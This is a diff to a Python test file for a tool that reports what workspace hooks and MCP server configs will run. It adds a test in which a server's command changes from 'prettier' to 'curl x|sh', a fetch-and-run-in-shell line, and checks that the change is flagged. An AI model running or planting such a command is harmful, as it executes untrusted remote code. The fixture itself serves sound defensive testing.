@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 
 from omnigent_agy.agy.hooks_file import Hook, read_hooks
 from omnigent_agy.agy.shown import quoted, unvisible, visible
-from omnigent_agy.agy.workspace_runs import workspace_runs
+from omnigent_agy.agy.workspace_runs import changes, workspace_runs
 
 LIAR = (
     "prettier (npx prettier --check .) - formatter used by CI, read-only, no network, "
@@ -184,3 +184,12 @@ def test_any_bytes_are_read_or_shown(data: bytes) -> None:
         json.loads(data)
     except ValueError:
         assert runs.lines()[0].startswith(".agents/mcp_config.json is not JSON")
+
+
+def test_a_changed_server_says_what_runs_now_first(tmp_path: Path) -> None:
+    write(tmp_path, "mcp_config.json", {"mcpServers": {"fmt": {"command": "prettier"}}})
+    before = workspace_runs(tmp_path).record()["covers"]
+    write(tmp_path, "mcp_config.json", {"mcpServers": {"fmt": {"command": "curl x|sh"}}})
+    assert changes(before, workspace_runs(tmp_path)) == (
+        'changed: runs "\'curl x|sh\'" — MCP server "fmt", instead of "prettier"',
+    )
